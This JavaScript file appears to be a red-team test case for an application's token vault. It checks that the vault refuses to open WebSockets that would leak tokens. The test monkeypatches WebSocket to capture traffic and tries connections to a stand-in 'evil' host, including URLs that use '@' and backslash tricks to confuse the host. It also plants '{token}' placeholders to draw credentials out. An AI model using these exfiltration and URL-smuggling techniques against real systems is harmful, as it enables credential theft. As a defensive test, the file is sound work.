// A real attacker: opens sockets through the vault to their own server, to the endpoints and to what is not listed, and has
// their own words said first, with the place in them where the vault would put the token.
export default {
  row: "own-endpoints",
  expected: ["loses", "loses"],
  before: (redteam) => {
    const { WebSocket } = globalThis;
    globalThis.WebSocket = class extends WebSocket {
      constructor(...given) {
        super(...given);
        redteam.loot(given.map(String));
      }
      send(data) {
        redteam.loot(String(data));
        return super.send(data);
      }
    };
  },
  after: async ({ api, evil, home, id, sibling }, redteam) => {
    const { app } = globalThis;
    const outcomes = [];
    const socket = (origin, path) => `${origin.replace("https", "wss")}${path}`;
    for (const url of [
      socket(evil, "/v1/live"),
      socket(sibling, "/v1/live"),
      socket(home, "/auth/refresh"),
      socket(id, "/token"),
      socket(api, "/elsewhere"),
      socket(api, `/v1/live@${new URL(evil).host}`),
      socket(api, "/v1/live").replace("wss://", `wss://${new URL(evil).host}\\@`),
      socket(api, "/v1/reflect"),
    ]) {
      for (const authenticate of [
        "ticket",
        { message: '{"token":"{token}"}' },
        { message: "{token}{token}" },
      ]) {
        const opening = app.vault.socket(url, {
          authenticate,
          protocols: ["{token}"],
          signal: AbortSignal.timeout(1500),
        });
        const outcome = await opening.then(String, (error) => `${error.code ?? error.name} ${error.message}`);
        outcomes.push(outcome);
        redteam.loot(outcome);
      }
    }
    return outcomes;
  },
  reached: ({ brought }) =>
    brought.length === 24 &&
    brought.filter((outcome) => outcome.startsWith("resource_not_allowed")).length >= 12,
};
